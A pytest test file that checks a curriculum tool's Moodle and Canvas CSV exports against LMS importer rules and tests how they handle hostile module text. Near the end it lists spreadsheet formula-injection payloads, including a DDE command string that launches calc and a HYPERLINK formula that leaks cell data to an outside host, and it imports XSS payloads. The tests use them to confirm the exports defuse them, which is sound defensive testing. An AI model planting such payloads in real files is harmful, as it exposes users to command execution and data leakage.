"""The catalog as LMS CSV files: a Moodle competency framework
(`moodle-competencies`) and Canvas outcomes (`canvas-outcomes`), read back
with each importer's own rules (tests/lms_importers.py). The importers'
stand-ins are first shown to accept the LMSs' own fixtures and to reject
what the LMSs reject; then every export must pass them on the built-in
catalog and the two real third-party ones, read back to the same modules,
stages and prerequisites, and stay safe with hostile module text."""

from __future__ import annotations

import csv
import html
import io
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

from curriculum.errors import CurriculumError
from curriculum.exports import spreadsheet_cell
from curriculum.model import STAGES, Catalog, Location, Module
from curriculum.pipeline import load
from curriculum.publish import Publication, collect_pages, publish_pages
from curriculum.publish.canvas_outcomes import MASTERY_POINTS, RATINGS
from curriculum.publish.catalog_export import FULL_TITLE_CLASS, PREREQUISITES_CLASS, module_title

from .lms_importers import (CanvasFileError, MoodleFileInvalid, MoodleImportProblems, canvas_import, moodle_import,
                            moodle_header_problems, moodle_records, moodle_text, ruby_csv)
from .test_xss import PAYLOADS, dangers

MOODLE_FIXTURE = Path("lms-formats/moodle/admin/tool/lpimportcsv/tests/fixtures/example.csv")
CANVAS_FIXTURES = Path("lms-formats/canvas/spec")
CATALOGS = {"built-in": None, "metacademy": "metacademy_content/modules", "ossu": "ossu_cs/modules"}
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module", params=list(CATALOGS))
def catalog(request) -> Catalog:
    folder = CATALOGS[request.param]
    return load([request.getfixturevalue("third_party") / folder] if folder else []).catalog


def export(target: str, catalog: Catalog) -> bytes:
    pages = collect_pages(publish_pages(target, Publication((), catalog=catalog)))
    assert list(pages) == [f"{target}.csv"]
    return pages[f"{target}.csv"].encode("utf-8")


def expected_modules(catalog: Catalog) -> dict[str, tuple]:
    """What each LMS should hold for each module: title, stage, prerequisites."""
    return {m.id: (spreadsheet_cell(module_title(m)), m.stage, m.prerequisites) for m in catalog.modules.values()}


def title_read_back(shown: str, description: str) -> str:
    """The title as the LMS shows it, or in full where the export had to cut it."""
    full = re.search(f'<p class="{FULL_TITLE_CLASS}"><strong>(.*?)</strong></p>', description, re.S)
    return spreadsheet_cell(html.unescape(full.group(1)) if full else shown)


def prerequisites_in(description: str) -> tuple[str, ...]:
    paragraph = re.search(f'<p class="{PREREQUISITES_CLASS}">(.*?)</p>', description, re.S)
    return tuple(re.findall(r"<code>([^<]*)</code>", paragraph.group(1))) if paragraph else ()


def moodle_modules(data: bytes) -> dict[str, tuple]:
    framework = moodle_import(data)
    modules = {}
    for stage in framework.children:
        assert stage.idnumber.startswith("stage:") and stage.description == ""
        for competency in stage.children:
            assert competency.children == [] and competency.descriptionformat == 1
            name = stage.idnumber.removeprefix("stage:")
            modules[competency.idnumber] = (title_read_back(moodle_text(competency.shortname), competency.description),
                                            None if name == "other" else name, tuple(competency.related))
    return modules


def canvas_modules(data: bytes, activity_base: str) -> dict[str, tuple]:
    imported = canvas_import(data)
    assert imported.errors == []
    modules = {}
    for guid, outcome in imported.outcomes.items():
        [group] = outcome["parents"]
        stage = group.removeprefix(activity_base + "stage:")
        modules[guid.removeprefix(activity_base)] = (title_read_back(outcome["title"], outcome["description"]),
                                                    None if stage == "other" else stage,
                                                    prerequisites_in(outcome["description"]))
    return modules


# --- the importers' stand-ins are faithful: the LMSs' own files -------------------------


def test_moodle_reads_its_own_fixture(third_party):
    data = (third_party / MOODLE_FIXTURE).read_bytes()
    framework = moodle_import(data)
    # What Moodle's own test (tool_lpimportcsv import_test) expects of this file.
    assert framework.idnumber == "OECD-CORE" and len(list(framework.walk())) == 64
    assert moodle_header_problems(data) == []
    level_1 = next(c for c, _ in framework.walk() if c.idnumber == "level-1")
    assert level_1.related[:2] == ["S-DT-1", "S-DT-2"] and len(level_1.related) == 39


def test_moodle_refuses_what_moodle_refuses():
    good = moodle_records(export("moodle-competencies", load().catalog))
    no_framework = [row[:12] + ["", row[13]] if row[12] == "1" else row for row in good]
    with pytest.raises(MoodleFileInvalid, match="no row is marked as the framework"):
        moodle_import(csv_bytes(no_framework))
    with pytest.raises(MoodleFileInvalid, match="csvweirdcolumns"):
        moodle_import(csv_bytes(good[:3] + [good[3][:-1]] + good[4:]))
    with pytest.raises(MoodleFileInvalid, match="empty"):
        moodle_import(b"\r\n \r\n")
    # PHP's fgetcsv takes a backslash as escaping the next character: a short
    # name `x\",y` written by any standard CSV writer becomes two cells.
    with pytest.raises(MoodleFileInvalid, match="csvweirdcolumns"):
        moodle_import(csv_bytes(good[:3] + [[good[3][0], good[3][1], 'x\\",y'] + good[3][3:]] + good[4:]))


@pytest.mark.parametrize("change, problem", [
    (lambda row: row[:1] + ["x" * 101] + row[2:], "would shorten or clean the ID number"),
    (lambda row: row[:2] + ["y" * 101] + row[3:], "would shorten or clean the short name"),
    (lambda row: row[:2] + ["<b>bold</b>"] + row[3:], "would shorten or clean the short name"),
    (lambda row: ["stage:nowhere"] + row[1:], "is never imported: its parent 'stage:nowhere' is not found"),
    (lambda row: row[:10] + ["no-such-module"] + row[11:], "cross-reference 'no-such-module' is to no imported"),
    (lambda row: row[:7] + ["no\\such\\rule"] + row[8:], "is no rule class: Moodle ignores it"),
    (lambda row: row[:2] + ["0"] + row[3:], "without ID number or short name"),
])
def test_moodle_import_problems_are_found(change, problem):
    rows = moodle_records(export("moodle-competencies", load().catalog))
    with pytest.raises(MoodleImportProblems, match=re.escape(problem)):
        moodle_import(csv_bytes(rows[:3] + [change(rows[3])] + rows[4:]))


@pytest.mark.parametrize("scale, configuration, taxonomy, problem", [
    ("Not yet competent,Competent", "{", "domain,competency", "not JSON"),
    ("Not yet competent,Competent", '[{"scaleid":"2"},{"id":2,"scaledefault":1,"proficient":0}]', "domain",
     "needs a default and a proficient rating"),
    ("Not yet competent,Competent", '[{"scaleid":"2"},{"id":3,"scaledefault":1,"proficient":1}]', "domain",
     "rates item 3"),
    ("Not yet competent,Competent", '[{"scaleid":"2"},{"id":2,"scaledefault":1,"proficient":1}]', "domain,planet",
     "taxonomy 'planet'"),
])
def test_moodle_framework_problems_are_found(scale, configuration, taxonomy, problem):
    rows = moodle_records(export("moodle-competencies", load().catalog))
    framework = rows[1][:5] + [scale, configuration] + rows[1][7:13] + [taxonomy]
    with pytest.raises(MoodleImportProblems, match=re.escape(problem)):
        moodle_import(csv_bytes([rows[0], framework] + rows[2:]))


def test_moodle_reads_commas_in_ids_as_its_exporter_escapes_them():
    # Module ids are slugs, so only a catalog built by hand has a comma in one.
    first, second = module("a,b"), module("c", prerequisites=("a,b",))
    data = export("moodle-competencies", Catalog({"a,b": first, "c": second}, {}, {}))
    assert "a%2Cb" in data.decode()
    assert moodle_modules(data)["c"][2] == ("a,b",)


def test_canvas_reads_its_own_fixtures(third_party):
    fixtures = third_party / CANVAS_FIXTURES

    def spec_fixture(name):
        return canvas_import((fixtures / f"lib/outcomes/fixtures/{name}.csv").read_bytes())

    demo = spec_fixture("demo")
    assert demo.errors == [] and demo.groups["a"]["parent"] is None and demo.groups["b"]["parent"] == "a"
    outcome = demo.outcomes["c"]
    assert outcome["parents"] == ["a", "b"] and outcome["display_name"] == "here"
    assert (outcome["calculation_method"], outcome["calculation_int"]) == ("decaying_average", 40)
    assert [(r["points"], r["description"]) for r in outcome["rubric"]["ratings"]] == [
        (3, "Betterest"), (2, "Better"), (1, "Good")]
    scoring = spec_fixture("scoring")
    assert scoring.errors == [] and len(scoring.outcomes["g"]["rubric"]["ratings"]) == 1
    assert scoring.outcomes["d"]["rubric"]["ratings"][1] == {"points": 1, "description": "No Comment"}
    assert spec_fixture("no-ratings").outcomes["c"]["rubric"] is None
    # The same outcomes with a byte order mark, ";" between cells and CR line ends, as Excel saves them.
    nor, excel = spec_fixture("nor"), spec_fixture("nor-excel")
    assert nor.errors == excel.errors == [] and list(nor.groups) == list(excel.groups) == ["a", "søren"]
    assert [o["title"] for o in nor.outcomes.values()] == [o["title"] for o in excel.outcomes.values()]
    assert spec_fixture("chn").errors == [] and list(spec_fixture("chn").outcomes) == ["軍爭"]
    for name in ("fixtures/files/outcomes/test_outcomes_1.csv",
                 "fixtures/files/outcomes/test_outcomes_no_groups.csv"):
        imported = canvas_import((fixtures / name).read_bytes())
        assert imported.errors == [] and imported.outcomes, name
    with pytest.raises(CanvasFileError, match=re.escape('Missing required fields: ["vendor_guid", "object_type"]')):
        canvas_import((fixtures / "fixtures/files/outcomes/test_outcomes_with_errors.csv").read_bytes())


# The cases of Canvas's own spec (spec/lib/outcomes/csv_importer_spec.rb), with
# the messages of the importer in lms-formats.
HEADERS = ["title", "vendor_guid", "object_type", "parent_guids", "calculation_method", "calculation_int",
           "workflow_state"]


def outcome_row(**changes) -> list[str]:
    row = {"title": "title", "vendor_guid": "g1", "object_type": "outcome", "parent_guids": "",
           "calculation_method": "highest", "calculation_int": "", "workflow_state": ""} | changes
    return [row[name] for name in HEADERS]


def group_row(**changes) -> list[str]:
    return outcome_row(**{"object_type": "group", "calculation_method": "", "vendor_guid": "g0"} | changes)


@pytest.mark.parametrize("rows, errors", [
    ([HEADERS + ["ratings"], outcome_row() + ["1", "Sad Trombone", "", "Zesty Trombone"]],
     [(2, "Points for rating tier 2 not present")]),
    ([HEADERS + ["ratings"], outcome_row() + ["1", "Sad Trombone", "bwaaaaaa bwa bwaaaaa", "Zesty Trombone"]],
     [(2, 'Invalid value for rating tier 2 threshold: "bwaaaaaa bwa bwaaaaa"')]),
    ([HEADERS + ["ratings"], outcome_row() + ["1", "Sad Trombone", "2", "Zesty Trombone"]],
     [(2, "Points for tier 2 must be less than points for prior tier (2.0 is greater than 1.0)")]),
    ([HEADERS, group_row(object_type="giraffe")], [(2, 'Invalid object_type: "giraffe"')]),
    ([HEADERS, group_row(vendor_guid="a"), outcome_row(parent_guids="a b c")],
     [(3, 'Parent references not found prior to this row: ["b", "c"]')]),
    ([HEADERS, outcome_row(object_type="group", title="")], [(2, 'The "title" field is required')]),
    ([HEADERS, outcome_row(vendor_guid="")], [(2, 'The "vendor_guid" field is required')]),
    ([HEADERS, outcome_row(vendor_guid="look some spaces")], [(2, 'The "vendor_guid" field must have no spaces')]),
    ([HEADERS, outcome_row(workflow_state="limbo"), group_row(workflow_state="limbo")],
     [(2, '"workflow_state" must be either "active" or "deleted"'),
      (3, '"workflow_state" must be either "active" or "deleted"')]),
    ([HEADERS, outcome_row(calculation_method="goofy")],
     [(2, "Calculation method calculation_method must be one of the following: "
          '["decaying_average", "weighted_average", "standard_decaying_average", "n_mastery", "highest", "latest", '
          '"average"]')]),
    ([HEADERS, outcome_row(calculation_int="3")],
     [(2, "Calculation int A calculation value is not used with this calculation method")]),
    ([HEADERS + ["ratings"], group_row(calculation_method="n_mastery", calculation_int="5") + ["1", "Sad Trombone"]],
     [(2, 'Invalid fields for a group: ["calculation_method", "calculation_int", "ratings"]')]),
    ([HEADERS, group_row(), group_row(), outcome_row(), outcome_row()],
     [(3, 'Group "g0" has already appeared in this import'), (5, 'Outcome "g1" has already appeared in this import')]),
])
def test_canvas_reports_the_row_errors_canvas_reports(rows, errors):
    assert canvas_import(csv_bytes(rows)).errors == errors


@pytest.mark.parametrize("rows, error", [
    ([["parent_guids", "ratings"]], 'Missing required fields: ["title", "vendor_guid", "object_type"]'),
    ([["parent_guids", "ratings", "vendor_guid", "", "blagh", ""]],
     'Invalid fields after ratings: ["vendor_guid", "blagh"]'),
    ([["vendor_guid", "title", "object_type", "spanish_inquisition", "parent_guids", "ratings"]],
     'Invalid fields: ["spanish_inquisition"]'),
    ([HEADERS], "File has no outcomes data"),
])
def test_canvas_refuses_the_files_canvas_refuses(rows, error):
    with pytest.raises(CanvasFileError, match=re.escape(error)):
        canvas_import(csv_bytes(rows))


def test_canvas_refuses_malformed_csv_and_flags_bad_utf8():
    good = csv_bytes([HEADERS, outcome_row(title="TITLE")])
    with pytest.raises(CanvasFileError, match="Invalid CSV File"):
        canvas_import(good.replace(b"TITLE", b'TI"TLE'))
    with pytest.raises(CanvasFileError, match="Invalid CSV File"):
        canvas_import(good.replace(b"TITLE", b"TI\nTLE"))
    [(row, message)] = canvas_import(good.replace(b"TITLE", b"evil \xff utf-8")).errors
    assert row == 2 and message.startswith("Not a valid utf-8 string")


# --- our exports pass them, on three catalogs -----------------------------------------


def test_moodle_framework_imports_with_the_fixtures_columns_and_scale(catalog, third_party):
    data = export("moodle-competencies", catalog)
    fixture = moodle_records((third_party / MOODLE_FIXTURE).read_bytes())
    records = moodle_records(data)
    assert records[0] == fixture[0] and moodle_header_problems(data) == []
    framework = moodle_import(data)
    fixture_framework = moodle_import((third_party / MOODLE_FIXTURE).read_bytes())
    assert (framework.scalevalues, framework.scaleconfiguration) == (fixture_framework.scalevalues,
                                                                     fixture_framework.scaleconfiguration)
    assert framework.descriptionformat == 1 and framework.taxonomies == "domain,competency"
    assert max(depth for _, depth in framework.walk()) == len(framework.taxonomies.split(","))
    # Stages in lifecycle order, "Other" last; modules by id within each.
    stages = [c.idnumber.removeprefix("stage:") for c in framework.children]
    assert stages == [s for s in (*STAGES, "other") if s in {m.stage or "other" for m in catalog.modules.values()}]
    for stage in framework.children:
        assert [c.idnumber for c in stage.children] == sorted(c.idnumber for c in stage.children)


def test_moodle_framework_reads_back_to_the_catalog(catalog):
    assert moodle_modules(export("moodle-competencies", catalog)) == expected_modules(catalog)


def test_canvas_outcomes_import_and_read_back_to_the_catalog(catalog):
    data = export("canvas-outcomes", catalog)
    assert canvas_modules(data, catalog.activity_base) == expected_modules(catalog)
    imported = canvas_import(data)
    groups = list(imported.groups.values())
    assert all(group["parent"] is None and group["workflow_state"] == "active" for group in groups)
    assert [g["title"] for g in groups] == [s.replace("-", " ").capitalize() for s in (*STAGES, "other")
                                           if s in {m.stage or "other" for m in catalog.modules.values()}]
    for outcome in imported.outcomes.values():
        assert (outcome["calculation_method"], outcome["calculation_int"]) == ("highest", None)
        assert outcome["rubric"] == {"mastery_points": MASTERY_POINTS, "ratings": [
            {"points": points, "description": name} for points, name in RATINGS]}


def test_canvas_outcomes_are_in_the_shape_of_canvas_fixtures(third_party):
    data = export("canvas-outcomes", load().catalog)
    fixture = ruby_csv((third_party / CANVAS_FIXTURES / "lib/outcomes/fixtures/demo.csv").read_text("utf-8"), ",")
    rows = ruby_csv(data.decode("utf-8"), ",")
    header = [cell for cell in rows[0] if cell]
    # The fixture's columns in the fixture's order, "ratings" last, every row as wide as the header.
    assert [cell for cell in header if cell in fixture[0]] == [cell for cell in fixture[0] if cell]
    assert header[-1] == "ratings" and {len(row) for row in rows} == {len(rows[0])}
    assert rows[0][len(header):] == [None] * (len(rows[0]) - len(header))


def test_vendor_guids_are_activity_ids(catalog_dir):
    base = "https://learning.example.com/modules/"
    catalog = load([catalog_dir({"a": {"stage": "data"}, "b": {"prerequisites": ["a"]}},
                                {"activity_base": base})]).catalog
    imported = canvas_import(export("canvas-outcomes", catalog))
    assert list(imported.outcomes) == [base + "a", base + "b"]
    assert list(imported.groups) == [base + "stage:data", base + "stage:other"]
    catalog = load([catalog_dir({"a": {}}, {"activity_base": "urn:" + "x" * 300 + ":"})]).catalog
    with pytest.raises(CurriculumError, match="activity_base"):
        export("canvas-outcomes", catalog)


def test_a_title_too_long_for_the_lms_is_cut_and_kept_whole_in_the_description(catalog_dir):
    title = "A title of many words " * 20
    catalog = load([catalog_dir({"long": {"title": title.strip()}})]).catalog
    moodle = moodle_import(export("moodle-competencies", catalog))
    [competency] = moodle.children[0].children
    # Cut between words, with an ellipsis.
    assert len(competency.shortname) <= 100 and title.startswith(competency.shortname.removesuffix("…") + " ")
    canvas = canvas_import(export("canvas-outcomes", catalog))
    [outcome] = canvas.outcomes.values()
    assert len(outcome["title"]) <= 255 and outcome["title"].endswith("…")
    assert moodle_modules(export("moodle-competencies", catalog))["long"][0] == title.strip()


@pytest.mark.parametrize("target", ["moodle-competencies", "canvas-outcomes"])
def test_two_runs_write_the_same_bytes(target, tmp_path):
    """Separate processes with different string hashing, through the CLI."""
    written = []
    for seed in ("1", "2"):
        out = tmp_path / seed
        environment = {**os.environ, "PYTHONHASHSEED": seed, "PYTHONPATH": str(Path(__file__).parents[1])}
        subprocess.run([sys.executable, "-m", "curriculum", "-q", "publish", "--target", target, "-o", str(out)],
                       check=True, env=environment)
        written.append((out / f"{target}.csv").read_bytes())
    assert written[0] == written[1] and written[0].endswith(b"\r\n")


@pytest.mark.parametrize("target", ["moodle-competencies", "canvas-outcomes"])
def test_a_publication_without_a_catalog_is_a_clear_error(target):
    with pytest.raises(CurriculumError, match=f"the {target} target exports the whole catalog and needs one"):
        list(publish_pages(target, Publication(())))


# --- hostile module text ------------------------------------------------------------

# Spreadsheet formulas, PHP's backslash escape, cell and line breaks, and
# what our own cells are made of.
CSV_PAYLOADS = [
    '=HYPERLINK("https://x.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1",
    "\r=1+1", " =1+1", 'a\\",b', "ends with a backslash \\", '"quoted", and, commas', "line\nbreak\r\nand\rmore",
    "nul\x00 and escape \x1b[31m", '\\",\\"', "%2C,stage:data,canvas_outcome:12", "&lt;b&gt; &amp;",
]


def hostile_catalog(folder: Path) -> Catalog:
    """A module per payload, the payload first in every text field, across all stages and none."""
    folder.mkdir()
    stages = [*STAGES, None]
    for index, payload in enumerate(PAYLOADS + CSV_PAYLOADS):
        data = {"id": f"h-{index}", "title": payload, "hours": 1, "level": "foundation", "summary": payload,
                "description": payload, "outcomes": [payload, f"O {payload}"],
                "prerequisites": [f"h-{index - 1}"] if index else []}
        if stages[index % len(stages)]:
            data["stage"] = stages[index % len(stages)]
        (folder / f"h-{index}.yaml").write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    return load([folder]).catalog


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Catalog:
    return hostile_catalog(tmp_path_factory.mktemp("hostile") / "catalog")


def test_hostile_text_cannot_break_out_of_moodle_cells(hostile):
    data = export("moodle-competencies", hostile)
    assert moodle_header_problems(data) == []
    assert moodle_modules(data) == expected_modules(hostile)
    for competency, _ in moodle_import(data).walk():
        assert dangers(competency.description) == [], competency.idnumber
        # Moodle shows short names as HTML: ours hold no tag, so nothing in one is markup.
        assert "<" not in competency.shortname and "\x00" not in competency.description
    assert_no_formula(moodle_records(data))


def test_hostile_text_cannot_break_out_of_canvas_cells(hostile):
    data = export("canvas-outcomes", hostile)
    assert canvas_modules(data, hostile.activity_base) == expected_modules(hostile)
    for outcome in canvas_import(data).outcomes.values():
        assert dangers(outcome["description"]) == []
        assert "\x00" not in outcome["title"] + outcome["description"]
    assert_no_formula(ruby_csv(data.decode("utf-8"), ","))


def assert_no_formula(rows: list[list[str | None]]) -> None:
    starts = {cell[:1] for row in rows for cell in row if cell}
    assert not starts & set(FORMULA_STARTS)
    assert "'" in starts  # the formula payloads were there, defused


# --- helpers ------------------------------------------------------------------------


def module(module_id: str, **fields) -> Module:
    return Module(id=module_id, title=module_id.upper(), hours=1, level="foundation",
                  location=Location(f"{module_id}.yaml", 1), stage="data", **fields)


def csv_bytes(rows) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\r\n").writerows(rows)
    return out.getvalue().encode("utf-8")
